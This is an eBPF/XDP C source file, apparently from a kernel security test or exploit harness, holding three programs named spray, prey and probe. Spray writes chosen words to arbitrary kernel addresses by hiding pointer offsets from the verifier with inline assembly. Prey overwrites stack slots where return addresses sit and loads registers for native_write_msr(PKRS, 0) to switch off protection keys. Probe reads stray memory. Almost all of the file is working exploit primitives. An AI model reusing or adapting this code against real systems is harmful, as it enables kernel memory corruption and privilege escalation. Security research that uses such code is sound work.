// SPDX-License-Identifier: GPL-2.0
/*
 * What the CPU or the JIT could read back from memory that a domain writes: an
 * event's frame, a return address. `spray` writes such words wherever it is sent, from
 * one CPU; `prey` runs on another, with registers and stack that make the most
 * of a frame or return address that is believed. Each looks at its order, if
 * only to share a map: that is what makes them one domain.
 */
#include "breach.bpf.h"

/* One for each attacker: the first byte of the packet says which. */
struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, MAX_SPRAYS);
	__type(key, __u32);
	__type(value, struct spray);
} sprays SEC(".maps");

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct prey);
} preys SEC(".maps");

/* The word is there, or it is not: for finding out what is mapped. */
SEC("xdp") int probe(struct xdp_md *ctx)
{
	struct order *o = take_order();
	__u32 key = 0;
	void *p = bpf_map_lookup_elem(&array, &key);

	if (!o || !p)
		return XDP_DROP;
	return survived(o, *(volatile __u64 *)astray(o, p));
}

SEC("xdp") int spray(struct xdp_md *ctx)
{
	__u8 *who = packet_at(ctx, 0, 1);
	__u32 key = who ? *who : 0;
	struct spray *s = bpf_map_lookup_elem(&sprays, &key);
	__u64 delta, rounds, count, *p;

	if (!s || !take_order())
		return XDP_DROP;
	p = s->room;
	*(volatile __u64 *)&s->base = (__u64)(long)p;
	delta = lost(*(volatile __u64 *)&s->target - *(volatile __u64 *)&s->base);
	asm volatile("%0 += %1" : "+r"(p) : "r"(delta));
	rounds = lost(*(volatile __u64 *)&s->rounds);
	rounds += packet_size(ctx) & 1;
	count = *(volatile __u64 *)&s->count;
	while (rounds) {
		for (__u64 i = 0; i < SPRAY_WORDS && i < count; i++)
			((volatile __u64 *)p)[i] = ((volatile __u64 *)s->words)[i];
		rounds--;
	}
	*(volatile __u64 *)&s->done = 1;
	return XDP_PASS;
}

/*
 * Puts words above its frame pointer, where a call would have left a return
 * address, and turns round with the arguments of native_write_msr(PKRS, 0) in
 * the registers that hold them.
 */
SEC("xdp") int prey(struct xdp_md *ctx)
{
	__u32 key = 0;
	struct prey *v = bpf_map_lookup_elem(&preys, &key);
	__u64 slot = 0, *p = &slot, delta, n;

	if (!v || !take_order())
		return XDP_DROP;
	*(volatile __u64 *)&v->slot = (__u64)(long)p;
	for (int i = 0; i < PREY_WORDS; i++) {
		delta = lost(*(volatile __u64 *)&v->offset + i * 8);
		p = &slot;
		asm volatile("%0 += %1" : "+r"(p) : "r"(delta));
		if (*(volatile __u64 *)&v->words[i])
			*(volatile __u64 *)p = *(volatile __u64 *)&v->words[i];
	}
	n = lost(*(volatile __u64 *)&v->rounds);
	n += packet_size(ctx) & 1;
	if (n)
		asm volatile("r1 = 0x6e1\n"
			     "r2 = 0\n"
			     "r3 = 0\n"
			     "1: %0 += -1\n"
			     "if %0 != 0 goto 1b\n"
			     : "+r"(n)
			     :
			     : "r1", "r2", "r3");
	*(volatile __u64 *)&v->done = 1;
	return XDP_PASS;
}

char _license[] SEC("license") = "GPL";
